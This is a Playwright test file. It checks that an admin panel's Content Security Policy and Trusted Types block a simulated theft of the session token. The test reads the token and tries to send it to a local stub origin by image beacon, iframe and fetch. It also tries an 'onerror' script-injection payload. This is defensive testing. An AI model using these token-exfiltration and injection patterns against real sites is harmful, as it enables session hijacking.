import { expect, openAdmin, test } from './admin-fixtures.ts';
import { useOwnPlatform } from './own-platform.ts';

// The admin keeps the session token in localStorage (as the spec says), so its
// pages get a policy of their own: no request and no image to another origin,
// and Trusted Types, so that even script that ran there could not carry the
// token away. Checked in Chromium, as an attacker's script would try it.

const violationsOf = async (page: import('@playwright/test').Page) => {
  const violations: string[] = [];
  await page.exposeFunction('reportAdminViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { reportAdminViolation: (text: string) => void }).reportAdminViolation(
        `${event.violatedDirective} ${event.blockedURI}`,
      );
    });
  });
  return violations;
};

test('the admin page blocks a fetch, an image beacon and a frame to another origin, and the other origin receives nothing', async ({
  adminPage: page,
  formsubmit,
}) => {
  const violations = await violationsOf(page);
  await openAdmin(page, '/dashboard');
  // The FormSubmit stub is another origin on this machine that would answer if the request went out.
  const before = formsubmit.received.length;
  const outcome = await page.evaluate(async (url) => {
    const token = localStorage.getItem('admin_token') ?? '';
    const image = new Image();
    image.src = `${url}/beacon?t=${token}`;
    // Frames are allowed for the site's own pages (the page editor's preview), never another origin's.
    const frame = document.createElement('iframe');
    frame.src = `${url}/frame?t=${token}`;
    document.body.append(frame);
    try {
      await fetch(`${url}/ajax/exfiltrate`, { method: 'POST', body: token });
      return 'sent';
    } catch {
      return 'blocked';
    }
  }, formsubmit.url);
  expect(outcome).toBe('blocked');
  await expect.poll(() => violations.some((text) => text.startsWith('connect-src'))).toBe(true);
  await expect.poll(() => violations.some((text) => text.startsWith('img-src'))).toBe(true);
  await expect.poll(() => violations.some((text) => text.startsWith('frame-src'))).toBe(true);
  expect(formsubmit.received.length).toBe(before);
});

// A platform of its own: the shared one holds other tests' clients whose logo
// URLs point at another origin, which this policy rightly refuses to load.
test.describe('on a site whose content is its own', () => {
  useOwnPlatform(test);

  test('the admin works under Trusted Types: screens render with no violation, and an HTML string sink is refused', async ({
    adminPage: page,
  }) => {
    const violations = await violationsOf(page);
    for (const screen of ['/dashboard', '/projects-enhanced', '/clients', '/settings', '/categories', '/enquiries']) {
      await openAdmin(page, screen);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
    expect(violations).toEqual([]);
    const refused = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=1">');
        return false;
      } catch {
        return true;
      }
    });
    expect(refused).toBe(true);
  });
});
